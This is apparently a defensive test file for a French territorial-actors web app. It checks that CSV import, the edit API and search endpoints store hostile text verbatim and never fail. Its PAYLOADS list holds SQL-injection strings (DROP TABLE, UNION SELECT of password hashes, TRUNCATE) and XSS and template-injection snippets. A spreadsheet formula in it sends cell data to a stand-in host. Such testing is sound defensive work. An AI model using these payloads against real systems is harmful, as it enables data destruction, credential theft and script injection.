// Hostile input in every free-text field of an actor, through the import (a generic CSV) and the
// edit API (PATCH /api/actors/{id}) of the real server, on both backends: SQL-injection and XSS
// payloads are stored exactly as typed, read back unchanged, never break a query (no 500), and
// the tables are still there afterwards. The browser test (payloads-display) checks they are shown
// as text.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runImport } from '../../src/lib/server/importer';
import { syncNafSectors } from '../../src/lib/server/queries/actors';
import { sectorDivisions } from '../../src/lib/server/reference';
import { csvText, encoded, sirenOf, siretOf } from '../fixtures/imports/builders';
import { BACKENDS, openSeededTestDatabase } from '../helpers/backends';
import { login, startServer, type RunningServer } from '../helpers/server';

/** One payload per family; each field gets its own so that a mix-up between fields shows. */
export const PAYLOADS = {
	sqlQuote: "Robert'); DROP TABLE actor;--",
	sqlUnion: "' UNION SELECT email, password_hash FROM app_user --",
	sqlComment: 'x" OR 1=1 /* */ ; DELETE FROM contact; --',
	sqlBackslash: "\\'; TRUNCATE territory CASCADE; --",
	xssScript: '<script>window.__pwned=1</script>',
	xssImg: '<img src=x onerror="window.__pwned=2">',
	xssSvg: '<svg/onload=window.__pwned=3>',
	xssAttr: '" autofocus onfocus="window.__pwned=4" x="',
	template: '{@html "<b>x</b>"} ${process.exit(1)} {{constructor.constructor("window.__pwned=5")()}}',
	unicode: 'Ŝtrüctüre ‮dlrow‬ 🧪 ǅ'
} as const;

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'maillage-payloads-'));

describe.each(BACKENDS)('hostile text in actor fields on %s', (backend) => {
	describe('import', () => {
		let handle: Awaited<ReturnType<typeof openSeededTestDatabase>>;
		beforeAll(async () => {
			handle = await openSeededTestDatabase(backend, { territories: true });
			await syncNafSectors(handle.db, await sectorDivisions('data'));
		});
		afterAll(async () => handle?.drop());

		it('stores every text column of a generic CSV exactly as typed', async () => {
			const row = {
				Nom: `Asso ${PAYLOADS.xssImg} ${PAYLOADS.sqlQuote}`,
				Sigle: PAYLOADS.xssSvg.slice(0, 50),
				SIRET: siretOf(sirenOf(91000001)),
				Adresse: `1 rue ${PAYLOADS.sqlUnion}`,
				'Code commune': '57463',
				Etiquettes: `${PAYLOADS.xssScript};${PAYLOADS.sqlComment}`,
				Notes: `${PAYLOADS.template} ${PAYLOADS.xssAttr} ${PAYLOADS.sqlBackslash}`,
				Identifiant: PAYLOADS.sqlQuote,
				'Contact nom': PAYLOADS.xssScript,
				'Contact rôle': PAYLOADS.sqlUnion
			};
			const file = path.join(dir, `payloads-${backend}.csv`);
			fs.writeFileSync(
				file,
				encoded(
					csvText([row, { ...row, Nom: `${PAYLOADS.unicode}`, SIRET: siretOf(sirenOf(91000002)), Identifiant: 'b2' }], { delimiter: ';' })
				)
			);
			const result = await runImport(handle.db, file, {
				departement: '57',
				fileName: 'payloads.csv',
				format: 'csv',
				mapping: {
					nom: 'Nom',
					sigle: 'Sigle',
					siret: 'SIRET',
					adresse: 'Adresse',
					commune_code: 'Code commune',
					tags: 'Etiquettes',
					notes: 'Notes',
					source_id: 'Identifiant',
					contact_nom: 'Contact nom',
					contact_role: 'Contact rôle'
				}
			});
			expect(result.summary).toMatchObject({ read: 2, imported: 2, rejected: 0 });
			const actor = await handle.db.selectFrom('actor').selectAll().where('siret', '=', row.SIRET).executeTakeFirstOrThrow();
			expect(actor).toMatchObject({ nom: row.Nom, sigle: row.Sigle, adresse: row.Adresse, notes: row.Notes, source_id: row.Identifiant });
			// Tags are split on « ; » and « , » by design: the payload is cut there, not altered.
			expect(actor.tags).toEqual([PAYLOADS.xssScript, 'x" OR 1=1 /* */', 'DELETE FROM contact', '--']);
			const contact = await handle.db.selectFrom('contact').selectAll().where('actor_id', '=', actor.id).executeTakeFirstOrThrow();
			expect(contact).toMatchObject({ nom: PAYLOADS.xssScript, role: PAYLOADS.sqlUnion });
			const other = await handle.db
				.selectFrom('actor')
				.select('nom')
				.where('siret', '=', siretOf(sirenOf(91000002)))
				.executeTakeFirstOrThrow();
			expect(other.nom).toBe(PAYLOADS.unicode);
			// Nothing was dropped or truncated by the payloads.
			expect(
				await handle.db
					.selectFrom('territory')
					.select((eb) => eb.fn.countAll<number>().as('n'))
					.executeTakeFirstOrThrow()
			).toEqual({ n: 725 + 23 + 5 + 4 + 1 });
		});
	});

	describe('edit API and queries', () => {
		let server: RunningServer;
		let headers: Record<string, string>;
		beforeAll(async () => {
			server = await startServer(backend, { MAILLAGE_DEMO: 'off' });
			headers = { cookie: await login(server) };
		});
		afterAll(async () => server?.stop());

		it('saves hostile text in every editable text field and reads it back unchanged', async () => {
			const list = await (await fetch(`${server.url}/api/actors?kind=collectivite&par=1`, { headers })).json();
			const id = list.rows[0].id;
			const before = await (await fetch(`${server.url}/api/actors/${id}`, { headers })).json();
			const changes = {
				nom: `${PAYLOADS.xssScript} ${PAYLOADS.sqlQuote}`,
				sigle: PAYLOADS.xssSvg,
				adresse: `${PAYLOADS.xssAttr} ${PAYLOADS.sqlUnion}`,
				notes: `${PAYLOADS.template}\n${PAYLOADS.sqlComment}\n${PAYLOADS.sqlBackslash}\n${PAYLOADS.xssImg}`,
				tags: [PAYLOADS.xssImg.slice(0, 60), PAYLOADS.sqlQuote]
			};
			const response = await fetch(`${server.url}/api/actors/${id}`, {
				method: 'PATCH',
				headers: { ...headers, 'content-type': 'application/json', origin: server.url },
				body: JSON.stringify({ version: before.version, changes })
			});
			expect(response.status).toBe(200);
			const after = await (await fetch(`${server.url}/api/actors/${id}`, { headers })).json();
			expect(after).toMatchObject(changes);
			// JSON responses carry the text as data, with a JSON content type (no HTML sniffing).
			expect(response.headers.get('content-type')).toMatch(/^application\/json/);
			// A NUL byte cannot be stored in PostgreSQL text: refused or cleaned, never a 500.
			const nul = await fetch(`${server.url}/api/actors/${id}`, {
				method: 'PATCH',
				headers: { ...headers, 'content-type': 'application/json', origin: server.url },
				body: JSON.stringify({ version: before.version + 1, changes: { notes: 'avant\u0000après' } })
			});
			expect(nul.status).toBe(400);
			expect((await nul.json()).error.message).toMatch(/notes : caractère nul/);

			// A formula in a name would run in the officer's spreadsheet: the CSV export defuses it.
			const formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';
			const edited = await fetch(`${server.url}/api/actors/${id}`, {
				method: 'PATCH',
				headers: { ...headers, 'content-type': 'application/json', origin: server.url },
				body: JSON.stringify({ version: before.version + 1, changes: { sigle: formula } })
			});
			expect(edited.status).toBe(200);
			const csv = await (
				await fetch(`${server.url}/api/actors/export?format=csv&kind=collectivite&q=${encodeURIComponent('window.__pwned=1')}`, { headers })
			).text();
			expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
		});

		it('answers hostile search, filter and path parameters with a result or a 4xx, never a 500', async () => {
			const urls = Object.values(PAYLOADS).flatMap((p) => {
				const q = encodeURIComponent(p.slice(0, 100));
				return [
					`/api/search?q=${q}`,
					`/api/actors?q=${q}`,
					`/api/actors?secteur=${q}`,
					`/api/actors?tag=${q}`,
					`/api/actors/points?epci=${q}`,
					`/api/actors/facets?q=${q}`,
					`/api/actors/export?format=csv&q=${q}`,
					`/api/actors/${q}`,
					`/api/territories/commune/${q}`,
					`/api/gaps?level=epci&sector=${q}`,
					`/api/gaps?level=epci&zone=${q}`
				];
			});
			urls.push('/api/search?q=a%00b', '/api/actors?q=a%00b', '/api/actors?tag=a%00b', '/api/gaps?level=epci&zone=a%00b');
			for (const url of urls) {
				const response = await fetch(`${server.url}${url}`, { headers });
				expect(response.status, url).toBeLessThan(500);
			}
			const health = await (await fetch(`${server.url}/api/health`)).json();
			expect(health).toMatchObject({ status: 'ok', counts: { commune: 725 } });
		});
	});
});
